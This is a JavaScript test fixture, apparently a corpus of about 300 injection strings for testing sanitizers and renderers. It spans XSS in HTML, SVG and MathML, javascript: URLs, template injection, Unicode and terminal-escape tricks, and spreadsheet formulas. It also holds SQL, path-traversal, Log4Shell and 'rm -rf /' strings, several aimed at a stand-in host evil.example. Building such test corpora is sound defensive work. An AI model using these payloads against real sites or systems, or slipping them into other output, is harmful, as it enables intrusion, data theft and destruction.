// 300 texts that attack where they are shown: HTML, SVG and MathML, addresses,
// styles, scripts that hold JSON, templates, Unicode, entities, comments,
// Markdown, spreadsheets, and the tools of those who write servers. What would
// run sets window.pwned and opens a dialog.
const RUN = 'window.pwned=1;alert(1)';
const CODED = 'String.fromCharCode(97,108,101,114,116)';

const scripts = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT >`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`, `<script\t>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`, `<script>${RUN}//`,
  `<script async defer>${RUN}</script >`, `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`, `</noscript><script>${RUN}</script>`,
  `</template><script>${RUN}</script>`, `</td></tr></table><script>${RUN}`,
  `</main></body></html><script>${RUN}</script>`,
  `"></a><script>${RUN}</script>`, `'></a><script>${RUN}</script>`,
  `<<script>${RUN}//<</script>`, `<script>\\u0061lert(1)</script>`,
  `<script nonce>${RUN}</script>`, `<script integrity=x>${RUN}</script>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<object data="data:text/html,<script>${RUN}</script>">`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;//evil.example">`,
];

const events = ['onload', 'onerror', 'onclick', 'onfocus', 'onblur',
  'onmouseover', 'onmouseenter', 'onpointerdown', 'onpointerrawupdate',
  'onkeydown', 'oninput', 'onchange', 'onsubmit', 'onreset', 'ontoggle',
  'onbeforetoggle', 'onscroll', 'onscrollend', 'onwheel', 'oncopy', 'onpaste',
  'ondrag', 'ondrop', 'onanimationstart', 'onanimationend', 'ontransitionrun',
  'ontransitionend', 'onbeforeinput', 'oncontentvisibilityautostatechange',
  'onhashchange', 'onmessage', 'onpageshow', 'onpopstate', 'onresize',
  'onunload', 'onbegin', 'onend', 'onrepeat', 'oncanplay', 'onformdata',
].map((event, i) => [
  `"><img src=x ${event}=${RUN}>`, `' ${event}='${RUN}' x='`,
  `" ${event}="${RUN}" autofocus tabindex=0 x="`, `<p ${event}=${RUN}>`,
][i % 4]);

const svg = [
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${RUN}"/>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a>`,
  `<svg><foreignObject><iframe onload=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x"/>`,
  `<svg><style>*{background:url(//evil.example/)}</style></svg>`,
  `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`,
  `</title></desc></svg><img src=x onerror=${RUN}>`,
  `</text></g></svg><script>${RUN}</script>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
];

const addresses = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN};`, `java\tscript:${RUN}`,
  `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, ` javascript:${RUN}`,
  `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`,
  `javascript:/*--></title>*/${RUN}//`, `jav&#x0A;ascript:${RUN}`,
  `vbscript:msgbox(1)`, `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`, `blob:https://evil.example/1`,
  `filesystem:https://evil.example/x`, `file:///etc/passwd`,
  `//evil.example/x.png`, `\\\\evil.example\\x`, `/\\evil.example`,
  `https://evil.example/"><script>${RUN}</script>`,
  `https://evil.example/'onmouseover='${RUN}`,
  `https://evil.example/\u202egpj.exe`, `https://good.example@evil.example/`,
  `https://evil.example\\@good.example/`, `https:evil.example`,
  `http://evil.example/ onclick=${RUN}`, `ftp://evil.example/`,
  `view-source:javascript:${RUN}`, `intent://evil.example#Intent;end`,
];

const styles = [
  `<style>*{display:none}</style>`, `<style>@import "//evil.example/x.css";`,
  `</style><style>body{background:url(//evil.example/x)}`,
  `" style="position:fixed;inset:0;background:url(//evil.example/x)`,
  `' style='animation:x 1s' onanimationstart='${RUN}`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=prefetch href=//evil.example/x>`,
  `<div style="width:expression(${RUN})">`, `x:expression(${RUN})`,
  `;}*{color:red!important}`, `/**/}@font-face{src:url(//evil.example/f)}`,
  `url(javascript:${RUN})`, `<p class="verdict leader">`, `"class="vh`,
  `<marquee onstart=${RUN}>`, `<plaintext>`, `<xmp>`, `<noembed>`,
  `<frameset onload=${RUN}>`, `<isindex type=image src=1 onerror=${RUN}>`,
];

const holders = [
  `"}</script><script>${RUN}</script>`, `</script/><img src=x onerror=${RUN}>`,
  `</SCRIPT ><svg onload=${RUN}>`, `<!--<script>`, `<!--<script></script>`,
  `"],"x":"`, `\\"}}];${RUN}//`, `\\u003cscript\\u003e${RUN}`,
  `\u2028${RUN}\u2029`, `{"@context":"javascript:${RUN}"}`,
  `]]></script>`, `*/${RUN}/*`, `';${RUN}//`, '`;' + RUN + '//',
  '${' + RUN + '}', `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
  `{"__proto__":{"pwned":1}}`,
];

const templates = [
  '{{7*7}}', '{{constructor.constructor("alert(1)")()}}', '{{{x}}}',
  '{% include "/etc/passwd" %}', '<%= 7*7 %>', '<% system("id") %>',
  '#{7*7}', '*{7*7}', '@{7*7}', '[[${7*7}]]', '${{7*7}}', '$(reboot)',
  '<?php system("id") ?>', '<?xml version="1.0"?>', '<jsp:include page=x />',
  "{{x|safe}}", "{{'a'.constructor.prototype.charAt=[].join}}",
  '<x ng-app ng-csp>{{$eval(1)}}', '<a v-on:click=alert(1)>',
  '<div x-data x-init=alert(1)>',
];

const unicode = [
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '\u02bascript\u02ba',
  '\u2039script\u203a', '\u226escript\u226f', '<\u0338script>',
  'a\u200bb\u200cc\u200dd\u2060e\ufeff', '\u00ad\u034f\u115f\u1160\u17b4',
  '\u0301'.repeat(60), 'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f',
  '\u{e0041}\u{e0042}\u{e007f}', '\u{1f600}'.repeat(30),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\ufdd0\ufdef\ufffe\uffff',
  '\u{1fffe}\u{10ffff}', '\ue000\u{f0000}', '\ufffc\ufffd', '\u3164\uffa0',
  '\u0130\u0131\u017f\u212a', '\u2024\u2025\u2026', '\uff0f\uff3c',
  'w'.repeat(400), '\u65e5\u672c\u8a9e'.repeat(40), '\u0e33'.repeat(80),
  '\ufdfa\ufdfa\ufdfa', '\u1680\u2000\u3000x', 'x\u00a0\u202f\u205f',
];

const turned = [
  '\u202egpj.exe', '\u202dabc\u202c', '\u2066x\u2069', '\u2067x\u2069',
  '\u2068x', '\u061c\u200e\u200f', '\u202a\u202b\u202a\u202b',
  '\u202e\u2066/* admin */\u2069', '\u05d0\u05d1\u05d2 abc \u05d3',
  '\u0627\u0644<script>\u0633', '\u202e>tpircs<', '\u206a\u206f',
];

const controls = [
  '\x1b]0;owned\x07', '\x1b[2J\x1b[31m', '\x1b]52;c;cm0gLXJmIC8=\x07',
  '\x1b]8;;http://evil.example\x1b\\x', '\x9b31m\x9d0;t\x9c', '\x90q\x9c\x85',
  'price\r$0.00', '\x08\x08\x08\x7f', '\x0b\x0cx', '\x01\x02\x03\x1f',
  'two\nlines', 'a\r\nSet-Cookie: x=1', 'tab\tbed', '\x80\x8d\x9f', '\x7f\x80',
  'x\r\n\r\n<html>', '\x1b%G', '\x0e\x0f', '\x16\x17', '\x1c\x1d\x1e',
];

const entities = [
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '&#x3c;b&#x3e;',
  '&#0000060script', '&#x3Cscript', '&LTscript&GT', '&amp;lt;b&amp;gt;',
  '&amp;amp;amp;', '&', '&&&', '&;', '&#;', '&#x;', '&#x110000;', '&#0;',
  '&#xd800;', '&notit;', '&nbsp;&nbsp;', '&quot;&apos;', '&Tab;&NewLine;',
  '&bsol;&sol;', '&lbrace;&lbrace;x', '&#8238;gpj', '&#x202e;', '&copy',
];

const comments = [
  '<!--', '-->', '--!>', '<!-->', '<!--->',
  `<!-- --!><img src=x onerror=${RUN}>`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`, `<![CDATA[${RUN}]]>`,
  '<!DOCTYPE html>', '<!ENTITY x SYSTEM "file:///etc/passwd">', '<?x ?>',
  `</ p><!${RUN}>`, '<', '</', '<>',
];

const markdown = [
  `[x](javascript:${RUN})`, `![x](http://evil.example/x.png)`,
  `<http://evil.example>`, `http://evil.example www.evil.example`,
  `[x]: javascript:${RUN}`, '| a | b |\n|---|---|', '# title', '- item',
  '1. item', '> quote', '```\ncode\n```', '`code`', '**bold** _it_', '~~no~~',
  '---', '===', '\\', '\\\\`', '$x$ $$y$$', ':tada: @user #1',
  '[^1] [[wiki]]', '* * *', '+ item', '    code', '<details open>',
];

const sheets = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("http://evil.example","x")',
  `=cmd|' /C calc'!A0`, '\t=1+1', '\uff1d1+1', '"=1+1"', "'=1+1", ';=1',
  ',"x",', '%0a=1', 'a";"b', '=IMPORTXML("http://evil.example","//x")',
];

const tools = [
  "'; drop table model; --", '%s%n%s%n%1000000d', '../../../etc/passwd',
  '`reboot` ; reboot', '; rm -rf /', '|| true', '%00', '%2e%2e%2f', '\\x00',
  '() { :; }; x', 'ldap://evil.example/a', '${jndi:ldap://evil.example/a}',
  'AAAA%p%p%p', 'null', 'undefined', 'NaN', 'true', '-0', '1e309',
  '0x7fffffff', 'COM1', `${CODED}(1)`,
];

// No two are the same but for large and small letters.
export const payloads = [scripts, events, svg, addresses, styles, holders,
  templates, unicode, turned, controls, entities, comments, markdown, sheets,
  tools].flat();

// Rows that hold one of these are refused: NUL, and nothing at all where a
// name is due.
export const refused = ['\0', 'a\0b', `<script>\0${RUN}</script>`];
